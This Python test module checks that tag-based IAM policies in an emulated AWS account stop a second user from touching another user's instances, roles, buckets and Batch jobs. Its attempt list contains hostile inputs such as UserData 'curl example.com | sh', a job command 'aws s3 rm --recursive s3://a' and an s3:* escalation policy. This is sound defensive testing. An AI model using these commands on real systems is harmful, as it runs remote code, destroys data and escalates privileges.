"""Two readers in one account: reader B, under the same policies, cannot touch reader A's things.

Reader A follows the reader's tour (every how-to page's blocks, in bash, in the index's order)
in the emulator. Then reader B, a second IAM user in the same emulated account with keys of
their own (so `get-caller-identity` gives B's user ID), tries to stop, modify, detach, retag
and delete each of A's resources, to open a session on A's instance, to create a volume from
A's snapshot, to launch with A's snapshot, from A's image or from a colleague's untagged
private image (everything B would make tagged as B's own); to disable, delete or retag A's AWS
Batch compute environment, job queue and job definition, to submit jobs to A's queue or, in B's
own queue, with A's job definition (which would run under A's job role), to pass A's job role in
a job definition of B's, to launch with A's instance profile or put A's role into a profile of B's
(both pass A's role to Amazon EC2), and to read or delete A's log group; and then pastes A's clean-up blocks
and the stop-and-clean-up sweep into a shell of their own; B can still launch from Amazon's image.
B also tries to list, read, overwrite and delete the objects of A's buckets, to give them a
lifecycle rule, to retag them, to turn their attribute-based access control (ABAC) off, and to
delete them.

moto does not enforce IAM here, so every call B makes passes a gate first (iamgate.py): the IAM
evaluator of tests/aws/iamsim.py decides it, given the call's action and resource ARN and a request
context built from the emulator's REAL tags, and B's identity. A call the evaluator refuses is not
sent. The gate sits in botocore itself: in this process for B's own calls, and in B's shell through
a `sitecustomize` module that asks this process over HTTP on 127.0.0.1.
Afterwards the audit compares A's resources, their tags, states and settings with what they
were before B started. Five fixtures show B through: the policies with one condition removed
(B stops A's instance), with the launch statement before ec2:Owner (B launches from the
untagged image), with buckets allowed by name, as before ABAC (B deletes A's object), with
the AWS Batch statement's owner condition removed (B disables A's job queue), and with
iam:PassRole fenced by the role's owner tag instead of its path (B launches with A's instance
profile and registers a job definition with A's job role).

iam:PassRole is judged without the passed role's owner tag, which the IAM User Guide says a policy
cannot rely on for that action: the gate gives IAM the worst case, the tag claiming B
(permissions.UNRELIABLE_TAG), so only the role's path, which its ARN holds, can refuse.

Budgets are allowed by name (`crashcourse-*`), not by tag (set-up-cli says why): B's attempts
on them are left out, and the page says what that leaves possible.
"""

from __future__ import annotations

import copy
import json
import os
import time
from pathlib import Path

import boto3
from botocore.exceptions import ClientError

import iamgate
from iamgate import Gate, gated_shell, serve_gate
from iamsim import Identity
from permissions import POLICIES, policies_before
from test_tour import CLEAN_UP_LAST, REGIONS, TOURS, Tour, pages_of
from tour import BLOCK_TIMEOUT, Shell, ShellError, steps

REGION = REGIONS[0]
OWNER_KEY = "crashcourse:owner"
# The image the guides launch from: Amazon's, from AWS's public parameter (launch-instance).
AMAZON_IMAGE = "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"
FIXTURES = Path(__file__).parent / "fixtures"
NOT_BY_TAG = {"budgets"}  # allowed by name: see the module's docstring
# The pages whose blocks reader A pastes: those that make something the policies guard by tag,
# with what they need first (set-up-cli signs in, choose-region sets the Region). The others
# make nothing (troubleshoot-ssh, jupyter-tunnel) or only budgets (budget-alert); leaving them
# out keeps this test to a few minutes.
A_PAGES = {"set-up-cli", "choose-region", "launch-instance", "restrict-ssh", "ebs-volume", "session-manager",
           "s3-data", "instance-role-s3", "efs-shared", "build-vpc", "spot-instances", "batch-jobs"}

# B's waits are on what the gate kept B from changing: they would poll for ten minutes.
SHORT_WAITS = '''
import botocore.waiter
_wait = botocore.waiter.Waiter.wait
def _short(self, **kwargs):
    kwargs["WaiterConfig"] = {"Delay": 0.2, "MaxAttempts": 5}
    return _wait(self, **kwargs)
botocore.waiter.Waiter.wait = _short
'''


def admin(endpoint: str, service: str, region: str = REGION):
    """The emulator seen from outside: reads the real tags and state, never gated."""
    return iamgate.admin(endpoint, service, region)


def gated_client(endpoint: str, service: str, keys: dict, gate: Gate, region: str = REGION):
    return iamgate.gated_client(endpoint, service, keys, gate, region)


def state_of_a(endpoint: str, owner: str) -> dict[str, object]:
    """What reader A has, as the account shows it: each resource with its tags, state and settings."""
    ec2, iam = admin(endpoint, "ec2"), admin(endpoint, "iam")
    mine = [{"Name": f"tag:{OWNER_KEY}", "Values": [owner]}]
    state: dict[str, object] = {}
    for r in ec2.describe_instances(Filters=mine)["Reservations"]:
        for i in r["Instances"]:
            data = ec2.describe_instance_attribute(InstanceId=i["InstanceId"], Attribute="userData").get("UserData", {})
            groups = sorted(g["GroupId"] for g in i.get("SecurityGroups", []))
            profile = i.get("IamInstanceProfile", {}).get("Arn")
            state[f"instance {i['InstanceId']}"] = (i["State"]["Name"], sorted(map(str, i.get("Tags", []))), data, groups, profile)
    for v in ec2.describe_volumes(Filters=mine)["Volumes"]:
        state[f"volume {v['VolumeId']}"] = (v["State"], v["Size"], sorted(a["InstanceId"] for a in v["Attachments"]), sorted(map(str, v["Tags"])))
    for s in ec2.describe_snapshots(OwnerIds=["self"], Filters=mine)["Snapshots"]:
        state[f"snapshot {s['SnapshotId']}"] = sorted(map(str, s["Tags"]))
    for i in ec2.describe_images(Owners=["self"], Filters=mine)["Images"]:
        state[f"image {i['ImageId']}"] = (i["State"], sorted(map(str, i["Tags"])))
    for g in ec2.describe_security_groups(Filters=mine)["SecurityGroups"]:
        state[f"security group {g['GroupId']}"] = (json.dumps(g["IpPermissions"], sort_keys=True), sorted(map(str, g["Tags"])))
    for k in ec2.describe_key_pairs(Filters=mine)["KeyPairs"]:
        state[f"key pair {k['KeyName']}"] = sorted(map(str, k.get("Tags", [])))
    for kind, call, key in (("vpc", "describe_vpcs", "Vpcs"), ("subnet", "describe_subnets", "Subnets"),
                            ("route table", "describe_route_tables", "RouteTables"),
                            ("internet gateway", "describe_internet_gateways", "InternetGateways")):
        for item in getattr(ec2, call)(Filters=mine)[key]:
            ident = next(v for k, v in item.items() if k.endswith("Id") and k[:-2].lower() in kind.replace(" ", ""))
            state[f"{kind} {ident}"] = sorted(map(str, item.get("Tags", [])))
    for role in iam.list_roles()["Roles"]:
        tags = {t["Key"]: t["Value"] for t in iam.list_role_tags(RoleName=role["RoleName"])["Tags"]}
        if tags.get(OWNER_KEY) == owner:
            full = iam.get_role(RoleName=role["RoleName"])["Role"]
            attached = sorted(p["PolicyArn"] for p in iam.list_attached_role_policies(RoleName=role["RoleName"])["AttachedPolicies"])
            inline = sorted(iam.list_role_policies(RoleName=role["RoleName"])["PolicyNames"])
            state[f"role {role['RoleName']}"] = (sorted(tags.items()), full["Path"], full.get("PermissionsBoundary"), attached, inline)
    for profile in iam.list_instance_profiles()["InstanceProfiles"]:
        tags = {t["Key"]: t["Value"] for t in profile.get("Tags", [])}
        if tags.get(OWNER_KEY) == owner:
            state[f"instance profile {profile['InstanceProfileName']}"] = (sorted(tags.items()), profile["Path"],
                                                                           sorted(r["RoleName"] for r in profile["Roles"]))
    efs = admin(endpoint, "efs")
    for fs in efs.describe_file_systems()["FileSystems"]:
        if {t["Key"]: t["Value"] for t in fs.get("Tags", [])}.get(OWNER_KEY) == owner:
            targets = efs.describe_mount_targets(FileSystemId=fs["FileSystemId"])["MountTargets"]
            state[f"file system {fs['FileSystemId']}"] = (sorted(map(str, fs["Tags"])), sorted(t["MountTargetId"] for t in targets))
    sns, events = admin(endpoint, "sns"), admin(endpoint, "events")
    for topic in sns.list_topics()["Topics"]:
        tags = {t["Key"]: t["Value"] for t in sns.list_tags_for_resource(ResourceArn=topic["TopicArn"])["Tags"]}
        if tags.get(OWNER_KEY) == owner:
            state[f"topic {topic['TopicArn']}"] = (sorted(tags.items()), sns.get_topic_attributes(TopicArn=topic["TopicArn"])["Attributes"].get("Policy"))
    for rule in events.list_rules()["Rules"]:
        tags = {t["Key"]: t["Value"] for t in events.list_tags_for_resource(ResourceARN=rule["Arn"])["Tags"]}
        if tags.get(OWNER_KEY) == owner:
            targets = sorted(t["Id"] for t in events.list_targets_by_rule(Rule=rule["Name"])["Targets"])
            state[f"rule {rule['Name']}"] = (sorted(tags.items()), rule.get("EventPattern"), targets)
    for name, tags in buckets_of(endpoint, owner).items():
        s3 = admin(endpoint, "s3")
        objects = sorted((o["Key"], o["ETag"]) for o in s3.list_objects_v2(Bucket=name).get("Contents", []))
        try:
            rules = json.dumps(s3.get_bucket_lifecycle_configuration(Bucket=name)["Rules"], sort_keys=True)
        except ClientError:
            rules = None
        state[f"bucket {name}"] = (sorted(tags.items()), s3.get_bucket_abac(Bucket=name)["AbacStatus"].get("Status"), objects, rules)
    batch, logs = admin(endpoint, "batch"), admin(endpoint, "logs")
    for ce in batch.describe_compute_environments()["computeEnvironments"]:
        if (ce.get("tags") or {}).get(OWNER_KEY) == owner:
            state[f"compute environment {ce['computeEnvironmentName']}"] = (ce["state"], sorted(ce["tags"].items()),
                                                                            json.dumps(ce.get("computeResources"), sort_keys=True))
    for queue in batch.describe_job_queues()["jobQueues"]:
        if (queue.get("tags") or {}).get(OWNER_KEY) == owner:
            state[f"job queue {queue['jobQueueName']}"] = (queue["state"], sorted(queue["tags"].items()),
                                                           json.dumps(queue["computeEnvironmentOrder"], sort_keys=True))
    for definition in batch.describe_job_definitions()["jobDefinitions"]:
        if (definition.get("tags") or {}).get(OWNER_KEY) == owner:
            state[f"job definition {definition['jobDefinitionArn']}"] = (definition["status"], sorted(definition["tags"].items()))
    state["jobs in A's queues"] = sorted(j["jobId"] for q in batch.describe_job_queues()["jobQueues"]
                                         if (q.get("tags") or {}).get(OWNER_KEY) == owner
                                         for j in batch.list_jobs(jobQueue=q["jobQueueName"])["jobSummaryList"])
    for group in logs.describe_log_groups()["logGroups"]:
        tags = logs.list_tags_for_resource(resourceArn=group["logGroupArn"])["tags"]
        if tags.get(OWNER_KEY) == owner:
            state[f"log group {group['logGroupName']}"] = (sorted(tags.items()), group.get("retentionInDays"))
    return state


def buckets_of(endpoint: str, owner: str) -> dict[str, dict[str, str]]:
    """The account's buckets that carry `owner`'s tag, with their tags."""
    s3, found = admin(endpoint, "s3"), {}
    for bucket in s3.list_buckets()["Buckets"]:
        try:
            tags = {t["Key"]: t["Value"] for t in s3.get_bucket_tagging(Bucket=bucket["Name"])["TagSet"]}
        except ClientError:  # NoSuchTagSet
            continue
        if tags.get(OWNER_KEY) == owner:
            found[bucket["Name"]] = tags
    return found


def launch_as(owner: str, image: str, **more) -> dict:
    """run_instances' parameters for one small instance, and its volumes, tagged as `owner`'s."""
    tags = [{"Key": OWNER_KEY, "Value": owner}]
    return {"ImageId": image, "InstanceType": "t3.micro", "MinCount": 1, "MaxCount": 1, **more,
            "TagSpecifications": [{"ResourceType": "instance", "Tags": tags}, {"ResourceType": "volume", "Tags": tags}]}


def attacks(endpoint: str, owner: str, b_owner: str) -> list[tuple[str, str, dict]]:
    """What B tries on each of A's resources: (service, method, parameters). Where B makes
    something from A's snapshots or images, B tags it as B's own, as the policies ask."""
    ec2, iam = admin(endpoint, "ec2"), admin(endpoint, "iam")
    mine = [{"Name": f"tag:{OWNER_KEY}", "Values": [owner]}]
    retag = [{"Key": OWNER_KEY, "Value": "AIDAB-TAKES-IT"}]
    amazon = admin(endpoint, "ssm").get_parameter(Name=AMAZON_IMAGE)["Parameter"]["Value"]
    zone = ec2.describe_availability_zones()["AvailabilityZones"][0]["ZoneName"]
    out = []
    for r in ec2.describe_instances(Filters=mine)["Reservations"]:
        for i in r["Instances"]:
            ident = i["InstanceId"]
            out += [("ec2", "stop_instances", {"InstanceIds": [ident]}),
                    ("ec2", "modify_instance_attribute", {"InstanceId": ident, "UserData": {"Value": b"curl example.com | sh"}}),
                    ("ec2", "terminate_instances", {"InstanceIds": [ident]}),
                    ("ec2", "create_tags", {"Resources": [ident], "Tags": retag}),
                    ("ec2", "delete_tags", {"Resources": [ident], "Tags": [{"Key": OWNER_KEY}]}),
                    ("ssm", "start_session", {"Target": ident})]
    for v in ec2.describe_volumes(Filters=mine)["Volumes"]:
        out += [("ec2", "create_snapshot", {"VolumeId": v["VolumeId"], "TagSpecifications": [
                    {"ResourceType": "snapshot", "Tags": [{"Key": OWNER_KEY, "Value": "AIDAB-TAKES-IT"}]}]}),
                ("ec2", "detach_volume", {"VolumeId": v["VolumeId"]}),
                ("ec2", "delete_volume", {"VolumeId": v["VolumeId"]})]
    for s in ec2.describe_snapshots(OwnerIds=["self"], Filters=mine)["Snapshots"]:
        b_volume = [{"ResourceType": "volume", "Tags": [{"Key": OWNER_KEY, "Value": b_owner}]}]
        out += [("ec2", "delete_snapshot", {"SnapshotId": s["SnapshotId"]}),
                ("ec2", "create_volume", {"SnapshotId": s["SnapshotId"], "AvailabilityZone": zone, "TagSpecifications": b_volume}),
                ("ec2", "run_instances", launch_as(b_owner, amazon, BlockDeviceMappings=[
                    {"DeviceName": "/dev/sdf", "Ebs": {"SnapshotId": s["SnapshotId"]}}]))]
    for i in ec2.describe_images(Owners=["self"])["Images"]:  # A's, and the account's untagged ones
        if {t["Key"]: t["Value"] for t in i.get("Tags", [])}.get(OWNER_KEY) in (owner, None):
            out.append(("ec2", "run_instances", launch_as(b_owner, i["ImageId"])))
    for g in ec2.describe_security_groups(Filters=mine)["SecurityGroups"]:
        out += [("ec2", "authorize_security_group_ingress", {"GroupId": g["GroupId"], "IpProtocol": "tcp", "FromPort": 22,
                                                            "ToPort": 22, "CidrIp": "0.0.0.0/0"}),
                ("ec2", "delete_security_group", {"GroupId": g["GroupId"]}),
                ("ec2", "create_tags", {"Resources": [g["GroupId"]], "Tags": retag})]
    for k in ec2.describe_key_pairs(Filters=mine)["KeyPairs"]:
        out.append(("ec2", "delete_key_pair", {"KeyName": k["KeyName"]}))
    for vpc in ec2.describe_vpcs(Filters=mine)["Vpcs"]:
        out += [("ec2", "create_subnet", {"VpcId": vpc["VpcId"], "CidrBlock": "10.0.200.0/24", "TagSpecifications": [
                    {"ResourceType": "subnet", "Tags": [{"Key": OWNER_KEY, "Value": "AIDAB-TAKES-IT"}]}]}),
                ("ec2", "delete_vpc", {"VpcId": vpc["VpcId"]})]
    for subnet in ec2.describe_subnets(Filters=mine)["Subnets"]:
        out.append(("ec2", "delete_subnet", {"SubnetId": subnet["SubnetId"]}))
    for role in iam.list_roles()["Roles"]:
        name = role["RoleName"]
        tags = {t["Key"]: t["Value"] for t in iam.list_role_tags(RoleName=name)["Tags"]}
        if tags.get(OWNER_KEY) != owner:
            continue
        out += [("iam", "attach_role_policy", {"RoleName": name, "PolicyArn": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"}),
                ("iam", "put_role_policy", {"RoleName": name, "PolicyName": "more", "PolicyDocument": json.dumps(
                    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}]})}),
                ("iam", "detach_role_policy", {"RoleName": name, "PolicyArn": "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"}),
                ("iam", "delete_role_permissions_boundary", {"RoleName": name}),
                ("iam", "tag_role", {"RoleName": name, "Tags": retag}),
                ("iam", "untag_role", {"RoleName": name, "TagKeys": [OWNER_KEY]}),
                ("iam", "delete_role", {"RoleName": name})]
    for profile in iam.list_instance_profiles()["InstanceProfiles"]:
        tags = {t["Key"]: t["Value"] for t in profile.get("Tags", [])}
        if tags.get(OWNER_KEY) == owner:
            # B launches with A's instance profile, so with A's role (passed to EC2), and puts A's
            # role into a profile of B's own: both pass A's role, which A's path fences.
            out.append(("ec2", "run_instances", launch_as(b_owner, amazon, IamInstanceProfile={"Name": profile["InstanceProfileName"]})))
            out += [("iam", "add_role_to_instance_profile", {"InstanceProfileName": B_PROFILE, "RoleName": r["RoleName"]})
                    for r in profile["Roles"]]
            for role in profile["Roles"]:
                out.append(("iam", "remove_role_from_instance_profile", {"InstanceProfileName": profile["InstanceProfileName"],
                                                                        "RoleName": role["RoleName"]}))
            out.append(("iam", "delete_instance_profile", {"InstanceProfileName": profile["InstanceProfileName"]}))
    efs = admin(endpoint, "efs")
    for fs in efs.describe_file_systems()["FileSystems"]:
        if {t["Key"]: t["Value"] for t in fs.get("Tags", [])}.get(OWNER_KEY) == owner:
            for target in efs.describe_mount_targets(FileSystemId=fs["FileSystemId"])["MountTargets"]:
                out.append(("efs", "delete_mount_target", {"MountTargetId": target["MountTargetId"]}))
            out.append(("efs", "delete_file_system", {"FileSystemId": fs["FileSystemId"]}))
    batch, logs = admin(endpoint, "batch"), admin(endpoint, "logs")
    b_tags = {OWNER_KEY: b_owner}
    for ce in batch.describe_compute_environments()["computeEnvironments"]:
        if (ce.get("tags") or {}).get(OWNER_KEY) == owner:
            arn = ce["computeEnvironmentArn"]
            out += [("batch", "update_compute_environment", {"computeEnvironment": arn, "state": "DISABLED"}),
                    ("batch", "delete_compute_environment", {"computeEnvironment": arn}),
                    ("batch", "tag_resource", {"resourceArn": arn, "tags": {OWNER_KEY: "AIDAB-TAKES-IT"}}),
                    ("batch", "untag_resource", {"resourceArn": arn, "tagKeys": [OWNER_KEY]}),
                    ("batch", "create_job_queue", {"jobQueueName": "crashcourse-batch-b-on-a", "priority": 1, "tags": b_tags,
                                                   "computeEnvironmentOrder": [{"order": 1, "computeEnvironment": arn}]})]
    definitions = [d for d in batch.describe_job_definitions(status="ACTIVE")["jobDefinitions"]
                   if (d.get("tags") or {}).get(OWNER_KEY) == owner]
    for queue in batch.describe_job_queues()["jobQueues"]:
        if (queue.get("tags") or {}).get(OWNER_KEY) == owner:
            arn = queue["jobQueueArn"]
            out += [("batch", "update_job_queue", {"jobQueue": arn, "state": "DISABLED"}),
                    ("batch", "delete_job_queue", {"jobQueue": arn}),
                    ("batch", "tag_resource", {"resourceArn": arn, "tags": {OWNER_KEY: "AIDAB-TAKES-IT"}})]
            out += [("batch", "submit_job", {"jobName": "b-in-a", "jobQueue": arn, "jobDefinition": d["jobDefinitionArn"]})
                    for d in definitions]
    for definition in definitions:
        arn = definition["jobDefinitionArn"]
        container = definition["containerProperties"]
        out += [("batch", "deregister_job_definition", {"jobDefinition": arn}),
                ("batch", "submit_job", {"jobName": "a-in-b", "jobQueue": B_QUEUE, "jobDefinition": arn}),
                ("batch", "register_job_definition", {  # B's own definition, with A's roles
                    "jobDefinitionName": "crashcourse-batch-b", "type": "container", "platformCapabilities": ["FARGATE"],
                    "tags": b_tags, "containerProperties": {**container, "command": ["sh", "-c", "aws s3 rm --recursive s3://a"]}})]
    for group in logs.describe_log_groups()["logGroups"]:
        if logs.list_tags_for_resource(resourceArn=group["logGroupArn"])["tags"].get(OWNER_KEY) == owner:
            out += [("logs", "filter_log_events", {"logGroupName": group["logGroupName"]}),
                    ("logs", "put_retention_policy", {"logGroupName": group["logGroupName"], "retentionInDays": 1}),
                    ("logs", "delete_log_group", {"logGroupName": group["logGroupName"]})]
    sns, events = admin(endpoint, "sns"), admin(endpoint, "events")
    for topic in sns.list_topics()["Topics"]:
        arn = topic["TopicArn"]
        if {t["Key"]: t["Value"] for t in sns.list_tags_for_resource(ResourceArn=arn)["Tags"]}.get(OWNER_KEY) == owner:
            out += [("sns", "set_topic_attributes", {"TopicArn": arn, "AttributeName": "Policy", "AttributeValue": "{}"}),
                    ("sns", "tag_resource", {"ResourceArn": arn, "Tags": retag}),
                    ("sns", "delete_topic", {"TopicArn": arn})]
    for rule in events.list_rules()["Rules"]:
        if {t["Key"]: t["Value"] for t in events.list_tags_for_resource(ResourceARN=rule["Arn"])["Tags"]}.get(OWNER_KEY) == owner:
            out += [("events", "remove_targets", {"Rule": rule["Name"], "Ids": ["email-me"]}),
                    ("events", "put_rule", {"Name": rule["Name"], "EventPattern": '{"source": ["aws.ec2"]}',
                                            "Tags": [{"Key": OWNER_KEY, "Value": "AIDAB-TAKES-IT"}]}),
                    ("events", "delete_rule", {"Name": rule["Name"]})]
    account = admin(endpoint, "sts").get_caller_identity()["Account"]
    expire = {"Rules": [{"ID": "expire-everything", "Filter": {"Prefix": ""}, "Status": "Enabled", "Expiration": {"Days": 1}}]}
    for name in buckets_of(endpoint, owner):
        keys = [o["Key"] for o in admin(endpoint, "s3").list_objects_v2(Bucket=name).get("Contents", [])] or ["reads/none"]
        out += [("s3", "list_objects_v2", {"Bucket": name}),
                ("s3", "get_object", {"Bucket": name, "Key": keys[0]}),
                ("s3", "put_object", {"Bucket": name, "Key": keys[0], "Body": b"overwritten by B"}),
                ("s3", "delete_object", {"Bucket": name, "Key": keys[0]}),
                ("s3", "put_bucket_lifecycle_configuration", {"Bucket": name, "LifecycleConfiguration": expire}),
                ("s3", "put_bucket_abac", {"Bucket": name, "AbacStatus": {"Status": "Disabled"}}),
                ("s3", "put_bucket_tagging", {"Bucket": name, "Tagging": {"TagSet": retag}}),
                ("s3control", "tag_resource", {"AccountId": account, "ResourceArn": f"arn:aws:s3:::{name}", "Tags": retag}),
                ("s3control", "untag_resource", {"AccountId": account, "ResourceArn": f"arn:aws:s3:::{name}", "TagKeys": [OWNER_KEY]}),
                ("s3", "delete_bucket", {"Bucket": name})]
    return out


B_QUEUE = "crashcourse-batch-bob"  # B's own job queue, on B's own compute environment
B_PROFILE = "crashcourse-ssm-bob"  # B's own instance profile, empty, under B's own path


def b_queue(endpoint: str, b_owner: str) -> None:
    """B's own compute environment and job queue, tagged as B's, as B's own guide would make them;
    and B's own instance profile, with no role yet, under B's path."""
    admin(endpoint, "iam").create_instance_profile(InstanceProfileName=B_PROFILE, Path=f"/crashcourse/{b_owner}/",
                                                   Tags=[{"Key": OWNER_KEY, "Value": b_owner}])
    ec2, batch, tags = admin(endpoint, "ec2"), admin(endpoint, "batch"), {OWNER_KEY: b_owner}
    subnets = [s["SubnetId"] for s in ec2.describe_subnets(Filters=[{"Name": "default-for-az", "Values": ["true"]}])["Subnets"]]
    group = ec2.create_security_group(GroupName=B_QUEUE, Description="B's jobs")["GroupId"]
    batch.create_compute_environment(computeEnvironmentName=B_QUEUE, type="MANAGED", tags=tags, computeResources={
        "type": "FARGATE_SPOT", "maxvCpus": 1, "subnets": subnets, "securityGroupIds": [group]})
    batch.create_job_queue(jobQueueName=B_QUEUE, priority=1, tags=tags, computeEnvironmentOrder=[{"order": 1, "computeEnvironment": B_QUEUE}])


def weakened_batch_queue_disabled(endpoint: str, b: Identity, keys: dict, policies: list[dict]) -> str:
    """The fixture: with the AWS Batch statement's owner condition removed, B disables A's job queue."""
    queue = next(q["jobQueueArn"] for q in admin(endpoint, "batch").describe_job_queues()["jobQueues"]
                 if (q.get("tags") or {}).get(OWNER_KEY) != b.userid and q["jobQueueName"] != B_QUEUE)
    loose = Gate(endpoint, b, policies_before(FIXTURES / "policy-batch-any-owner.json"))
    try:
        gated_client(endpoint, "batch", keys, loose).update_job_queue(jobQueue=queue, state="DISABLED")
    finally:
        loose.close()
    return admin(endpoint, "batch").describe_job_queues(jobQueues=[queue])["jobQueues"][0]["state"]


def reader_b(endpoint: str) -> tuple[dict, Identity]:
    """A second IAM user in the same account, with keys of its own."""
    iam = admin(endpoint, "iam")
    iam.create_user(UserName="bob")
    key = iam.create_access_key(UserName="bob")["AccessKey"]
    keys = {"aws_access_key_id": key["AccessKeyId"], "aws_secret_access_key": key["SecretAccessKey"]}
    me = boto3.client("sts", endpoint_url=endpoint, region_name=REGION, **keys).get_caller_identity()
    return keys, Identity(me["Arn"], me["UserId"], me["Account"])


def weakened(policies: list[dict]) -> list[dict]:
    """The fixture: the policies with one condition removed (EC2 changes on anyone's resources)."""
    out = copy.deepcopy(policies)
    for policy in out:
        for statement in policy["Statement"]:
            if statement.get("Sid") == "ChangeOnlyOwnEC2Resources":
                del statement["Condition"]
                return out
    raise AssertionError("no statement ChangeOnlyOwnEC2Resources in the policies")


def test_reader_b_cannot_touch_reader_a(fresh_account, tmp_path):
    started = time.monotonic()
    endpoint = fresh_account
    index, snippets, _ = TOURS["howto"]
    files = [f for f in pages_of(index, snippets) if f.stem in A_PAGES]
    assert len(files) == len(A_PAGES), f"pages not in howto/index.md: {A_PAGES - {f.stem for f in files}}"
    home_a = tmp_path / "a"
    home_a.mkdir()
    owner_a, account = (admin(endpoint, "sts").get_caller_identity()[k] for k in ("UserId", "Account"))
    tour = Tour("bash", endpoint, home_a)
    terminal = Shell("bash", tour.env, home_a)
    try:
        for path in files:  # reader A follows every page, as in the tour (bash)
            for step in steps(path, cleanup=False):
                tour.run(terminal, step)
    finally:
        terminal.close()
    # Images no guide makes: A's own, tagged, and a colleague's without a tag, both private.
    ec2 = admin(endpoint, "ec2")
    amazon = admin(endpoint, "ssm").get_parameter(Name=AMAZON_IMAGE)["Parameter"]["Value"]
    builder = ec2.run_instances(ImageId=amazon, InstanceType="t3.micro", MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
    ec2.create_image(InstanceId=builder, Name="crashcourse-a-image", TagSpecifications=[
        {"ResourceType": "image", "Tags": [{"Key": OWNER_KEY, "Value": owner_a}]}])
    untagged = ec2.create_image(InstanceId=builder, Name="a-colleagues-image")["ImageId"]
    ec2.terminate_instances(InstanceIds=[builder])
    before = state_of_a(endpoint, owner_a)
    assert len(before) > 10, f"reader A's tour left too little to attack: {sorted(before)}"
    buckets = {k: v for k, v in before.items() if k.startswith("bucket ")}
    assert len(buckets) >= 2 and all(v[1] == "Enabled" for v in buckets.values()), buckets  # s3-data's, spot-instances'
    a_seconds = time.monotonic() - started

    keys, b = reader_b(endpoint)
    assert b.userid != owner_a
    b_queue(endpoint, b.userid)
    policies = [json.loads(p.read_text()) for p in POLICIES]
    gate = Gate(endpoint, b, policies)
    server, url = serve_gate(gate, REGION)
    through = []
    try:
        for service, method, params in attacks(endpoint, owner_a, b.userid):  # B's direct attempts
            client = gated_client(endpoint, service, keys, gate)
            try:
                getattr(client, method)(**params)
                through.append(f"{service}.{method} {params}")
            except ClientError as e:
                if e.response["Error"]["Code"] != "AccessDenied":
                    through.append(f"{service}.{method} {params}: sent, and the emulator answered {e}")
        refused_direct = sum(1 for _, _, allowed in gate.log if not allowed)

        # B pastes A's clean-up blocks and the sweep into a shell of their own.
        gatedir = tmp_path / "gate"
        gated = gated_shell(url, gatedir, SHORT_WAITS)
        home_b = tmp_path / "b"
        (home_b / ".aws").mkdir(parents=True)
        (home_b / ".aws" / "config").write_text(f"[default]\nregion = {REGION}\n")
        env = Tour("bash", endpoint, home_b).env
        # B's waits are on what the gate kept B from deleting (the EFS loop checks 30 times, 10 s
        # apart): a `sleep` that returns at once ends them, and changes nothing B's calls do.
        (gatedir / "sleep").write_text("#!/bin/sh\nexit 0\n")
        (gatedir / "sleep").chmod(0o755)
        env.update(**gated, AWS_ACCESS_KEY_ID=keys["aws_access_key_id"],
                   AWS_SECRET_ACCESS_KEY=keys["aws_secret_access_key"], PATH=f"{gatedir}{os.pathsep}{env['PATH']}")
        cleanups = [*reversed(files), *(f for f in pages_of(index, snippets) if f.stem == CLEAN_UP_LAST)]
        pasted, b_started, stuck, slow = 0, time.monotonic(), [], {}
        print(f"\nreader A's tour: {a_seconds:.0f} s; B's direct attempts: {time.monotonic() - started - a_seconds:.0f} s")
        for path in cleanups:
            blocks = steps(path, cleanup=True)
            if path.stem == CLEAN_UP_LAST:
                blocks = steps(path, cleanup=False) + blocks
            shell = Shell("bash", env, home_b)
            try:
                for step in blocks:
                    block_started = time.monotonic()
                    try:
                        shell.paste(step.code)  # B's commands may fail: that is the point
                        pasted += 1
                    except ShellError:
                        stuck.append(step.where())
                        shell.close()
                        shell = Shell("bash", env, home_b)
                    slow[step.where()] = time.monotonic() - block_started
            finally:
                shell.close()
        print(f"B pasted {pasted} blocks in {time.monotonic() - b_started:.0f} s; slowest: "
              + ", ".join(f"{w} {t:.0f} s" for w, t in sorted(slow.items(), key=lambda kv: -kv[1])[:5]))
        after = state_of_a(endpoint, owner_a)
    finally:
        server.shutdown()
        gate.close()

    changed = {k: (before.get(k), after.get(k)) for k in set(before) | set(after) if before.get(k) != after.get(k)}
    if record := os.environ.get("TWO_READERS_LOG"):  # while debugging: every call B made, and its verdict
        Path(record).write_text(json.dumps({"log": gate.log, "changed": changed, "before": before}, indent=1, default=str))
    sent_by_b = [call for call, _, allowed in gate.log if allowed and not call.startswith(("sts.", "ec2.Describe"))]
    print(f"\nreader A's tour: {a_seconds:.0f} s; B: {len(gate.log)} calls judged, {refused_direct} direct attempts refused, "
          f"{pasted} clean-up blocks pasted; whole test {time.monotonic() - started:.0f} s")
    if stuck:  # a block that waits for what B could not delete (the EFS loop checks for 5 minutes)
        print(f"B's blocks that had not returned after {BLOCK_TIMEOUT} s: {stuck}")
    assert not through, "reader B got through:\n" + "\n".join(through)
    assert not changed, "reader A's resources changed while reader B tried:\n" + "\n".join(
        f"{k}: {v[0]} -> {v[1]}" for k, v in sorted(changed.items()))
    assert refused_direct >= len(attacks(endpoint, owner_a, b.userid)), "an attempt was not judged by the gate"
    assert not [c for c in sent_by_b if any(w in c for w in ("Delete", "Terminate", "Stop", "Detach", "Modify"))
                and not any(s in c for s in NOT_BY_TAG) and B_QUEUE not in c], sent_by_b  # (B's sweep deletes B's own queue)

    # The fixture: without the condition on EC2 changes, B stops A's instance.
    instance = next(k.split()[1] for k in before if k.startswith("instance ") and before[k][0] == "running")
    loose = Gate(endpoint, b, weakened(policies))
    try:
        gated_client(endpoint, "ec2", keys, loose).stop_instances(InstanceIds=[instance])
    finally:
        loose.close()
    state = admin(endpoint, "ec2").describe_instances(InstanceIds=[instance])["Reservations"][0]["Instances"][0]["State"]["Name"]
    assert state in ("stopping", "stopped"), state
    # The fixture: without the owner condition on AWS Batch's changes, B disables A's job queue.
    assert weakened_batch_queue_disabled(endpoint, b, keys, policies) == "DISABLED"

    # B can launch from Amazon's image, tagged as B's (a gate of its own: B's log above holds no
    # launch); and the fixture: with the launch statement before ec2:Owner (the image's and the
    # snapshot's owner tag only if they have one), B launches from the colleague's untagged image.
    for policy_set, image in ((policies, amazon), (policies_before(FIXTURES / "policy-without-image-owner.json"), untagged)):
        own = Gate(endpoint, b, policy_set)
        try:
            launched = gated_client(endpoint, "ec2", keys, own).run_instances(**launch_as(b.userid, image))["Instances"][0]
        finally:
            own.close()
